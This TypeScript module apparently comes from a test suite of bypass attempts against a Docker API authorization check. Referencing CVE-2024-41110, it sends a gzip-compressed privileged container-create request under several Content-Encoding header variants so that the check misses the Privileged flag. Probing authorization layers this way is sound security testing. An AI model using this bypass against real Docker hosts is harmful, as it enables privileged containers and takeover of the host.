import { gzipSync } from 'node:zlib';
import { type Attempt, container, each, v } from './book';

export const attempt: Attempt = {
  title: 'pack the body so that the check does not see it',
  source: 'CVE-2024-41110 and its kind: bodies that are read by one side only',
  async try(world) {
    const body = gzipSync(JSON.stringify(container(world, { HostConfig: { Privileged: true } })));
    return each([{ 'Content-Encoding': 'gzip' }, { 'Content-Encoding': 'deflate' }, { 'Content-Encoding': 'br' },
      { 'Content-Encoding': 'gzip, identity' }, { 'Content-Encoding': 'identity, gzip' }, { 'Content-Encoding': 'GZIP' },
      { 'Content-Encoding': '' }, {}], (headers: Record<string, string>) => world.call('POST', `${v}/containers/create`, body, headers));
  },
};
